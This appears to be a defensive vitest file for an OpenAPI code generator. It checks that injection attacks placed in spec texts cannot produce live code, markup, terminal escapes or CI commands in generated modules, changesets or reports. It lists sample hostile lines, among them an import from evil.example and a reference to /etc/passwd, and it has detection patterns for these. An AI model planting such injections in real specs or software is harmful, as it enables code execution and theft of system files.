import { cp, readdir } from "node:fs/promises";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { parseChangesetFile } from "@changesets/parse";
import { micromark } from "micromark";
import { gfm, gfmHtml } from "micromark-extension-gfm";
import { beforeAll, describe, expect, test } from "vitest";
import { ROOT } from "../support/repository.ts";
import { runOrThrow } from "../support/run.ts";
import { ATTACKS, inscribedDocument, LOG_COMMAND, STEERING } from "./support/attacks.ts";
import { Checkout, type MeasuredRun } from "./support/checkout.ts";
import {
  compileGenerated,
  readGenerated,
  type Survey,
  surveyCode,
} from "./support/generated-code.ts";
import { testThreat } from "./support/threat.ts";

/** What a sync and its reports make of a document with a text at every place that takes one. */
interface Traces {
  run: MeasuredRun;
  changeset: string;
  survey: Survey;
  reports: Record<"text" | "markdown" | "html", string>;
}

let checkout: Checkout;
let attacked: Traces;
let harmless: Traces;

beforeAll(async () => {
  checkout = await Checkout.create();
  harmless = await trace("harmless.json", (_, index) => `plain${index}`);
  await checkout.restore();
  attacked = await trace("attacked.json", (attack) => attack);
  return () => checkout[Symbol.asyncDispose]();
});

async function trace(
  name: string,
  inscribe: Parameters<typeof inscribedDocument>[0],
): Promise<Traces> {
  const file = await checkout.writeInput(name, JSON.stringify(inscribedDocument(inscribe)));
  const report = path.join(checkout.inputs, `${name}.html`);
  const text = await diff(name, "--html", report);
  const markdown = await diff(name, "--markdown");
  const run = await checkout.sync(["--source", file], { preload: ["as-terminal.ts"] });
  expect(run.code, run.stderr).toBe(0);
  return {
    run,
    changeset: await checkout.read(".changeset/spec-sync.md"),
    survey: surveyCode(await readGenerated(checkout.root)),
    reports: {
      text: text.stdout,
      markdown: markdown.stdout,
      html: await checkout.readInput(`${name}.html`),
    },
  };
}

function diff(name: string, ...args: string[]): Promise<MeasuredRun> {
  const file = path.join(checkout.inputs, name);
  return checkout.command("diff", ["spec/released.json", file, ...args]);
}

/** The names of a page's tags and of their attributes, each once. */
function markupOf(html: string): string[] {
  const tags = Array.from(
    html.matchAll(/<\/?([a-z][a-z0-9-]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/gi),
  );
  return [
    ...new Set(
      tags.flatMap(([, name = "", attributes = ""]) => [
        name,
        ...Array.from(
          attributes.matchAll(/\s([a-z-]+)(?:="[^"]*")?/gi),
          ([, each]) => `${name} ${each}`,
        ),
      ]),
    ),
  ].sort();
}

const toHtml = (markdown: string): string =>
  micromark(markdown, {
    allowDangerousHtml: true,
    extensions: [gfm()],
    htmlExtensions: [gfmHtml()],
  });

test("the survey of generated modules sees code wherever it stands", () => {
  for (const code of [
    "globalThis.pwned = 1;",
    "export const a: A = globalThis.pwned;",
    'export const a: A = operation("GET", globalThis.pwned);',
    'export const a: A = operation("GET", `$\u007bglobalThis.pwned}`);',
    "export const a = [(() => 1)()] as const;",
    "export const a = [...b] as const;",
    'import "https://evil.example/x.js";',
    'export * from "node:fs";',
    "export interface A { [globalThis.pwned]: 1 }",
    'export interface A { a: import("node:fs").Stats }',
    "export interface A extends B<typeof C> {}",
    "export class A {}",
    "export let a = [] as const;",
    "export interface A { a: ",
    '/// <reference path="/etc/passwd" />',
  ]) {
    expect(surveyCode(new Map([["a.gen.ts", code]])).strangers, code).not.toEqual([]);
  }
});

const count = Object.keys(ATTACKS).length;
const everywhere = `${count} attacks in every title, description, format, default, example, enum value and description, operationId, media type, header, parameter and property name`;

describe("8. Texts that are code", () => {
  testThreat(
    {
      input: everywhere,
      result:
        "accepted: to a TypeScript parser they are text, and the generated modules consist of what harmless texts give",
    },
    async () => {
      expect(attacked.survey.strangers).toEqual([]);
      expect(attacked.survey.counts).toEqual(harmless.survey.counts);
      expect(attacked.survey.counts.InterfaceDeclaration).toBeGreaterThan(count);
    },
  );
  testThreat({ input: "the same attacks, compiled", result: "no error" }, async () =>
    expect(compileGenerated(checkout.root)).toEqual([]),
  );
  testThreat({ input: "the same attacks, imported", result: "no side effect" }, async () => {
    await cp(path.join(ROOT, "packages/client/src"), checkout.path("packages/client/src"), {
      recursive: true,
      filter: (source) => !source.endsWith("operations"),
    });
    const folder = checkout.path("packages/client/src/operations");
    const files = [checkout.path("packages/types/src/enums.gen.ts")];
    for (const name of await readdir(folder)) files.push(path.join(folder, name));
    expect(files.length).toBeGreaterThan(count);
    const script = fileURLToPath(new URL("support/import-modules.ts", import.meta.url));
    const args = [script, ...files];
    expect(JSON.parse(await runOrThrow(process.execPath, args, { cwd: checkout.root }))).toEqual(
      [],
    );
  });
});

describe("11. Texts that are orders to those who read a report", () => {
  const defused = (input: string, result: string, run: () => void): void =>
    testThreat({ input, result }, async () => run());

  defused(
    "the attacks in texts and names, in the changeset",
    "its front matter names the two packages and the bump, its text has no markup of theirs",
    () => {
      expect(parseChangesetFile(attacked.changeset).releases).toEqual([
        { name: "@c1-openapi/types", type: "minor" },
        { name: "@c1-openapi/client", type: "minor" },
      ]);
      expect(attacked.changeset).not.toMatch(STEERING);
      expect(attacked.changeset).not.toContain("$\u007b{");
      const { summary } = parseChangesetFile(attacked.changeset);
      expect(markupOf(toHtml(summary))).toEqual(
        markupOf(toHtml(parseChangesetFile(harmless.changeset).summary)),
      );
    },
  );
  defused(
    "the attacks in texts and names, in the report in Markdown",
    "no markup of theirs, no mention, no link, no expression of a workflow",
    () => {
      const { markdown } = attacked.reports;
      expect(markdown).not.toMatch(STEERING);
      expect(markdown).not.toContain("$\u007b{");
      expect(markupOf(toHtml(markdown))).toEqual(markupOf(toHtml(harmless.reports.markdown)));
      expect(toHtml(markdown).replace(/<code>[^<]*<\/code>/g, "")).not.toMatch(
        /@everyone|evil\.example/,
      );
    },
  );
  defused("the attacks in texts and names, in the report as a page", "no markup of theirs", () => {
    const { html } = attacked.reports;
    expect(html).not.toMatch(STEERING);
    expect(markupOf(html)).toEqual(markupOf(harmless.reports.html));
  });
  defused(
    "the attacks in texts and names, in the report as text",
    "nothing that steers a terminal or a CI",
    () => {
      expect(attacked.reports.text).not.toMatch(STEERING);
      expect(attacked.reports.text).not.toMatch(LOG_COMMAND);
      expect(attacked.reports.text.split("\n").length).toBe(
        harmless.reports.text.split("\n").length,
      );
    },
  );
  defused(
    "the attacks in texts and names, on a terminal",
    "nothing that steers it, or a CI, but our own progress",
    () => {
      const { stdout, stderr } = attacked.run;
      expect(stdout + stderr).not.toMatch(LOG_COMMAND);
      expect(stdout + stderr.replaceAll("\r\u001b[2K", "")).not.toMatch(STEERING);
      expect(stderr).toContain("\r\u001b[2K");
    },
  );
  testThreat(
    {
      input: "the attacks in texts and names, in the JSON of sync and diff",
      result: "one line, in which nothing steers a terminal or a CI",
    },
    async () => {
      const file = path.join(checkout.inputs, "attacked.json");
      for (const { stdout } of [
        await diff("attacked.json", "--json"),
        await checkout.sync(["--json", "--source", file]),
      ]) {
        expect(JSON.parse(stdout)).toMatchObject({ bump: "minor" });
        expect(stdout.trimEnd()).not.toMatch(/\n|##/);
        expect(stdout).not.toMatch(STEERING);
      }
    },
  );
});
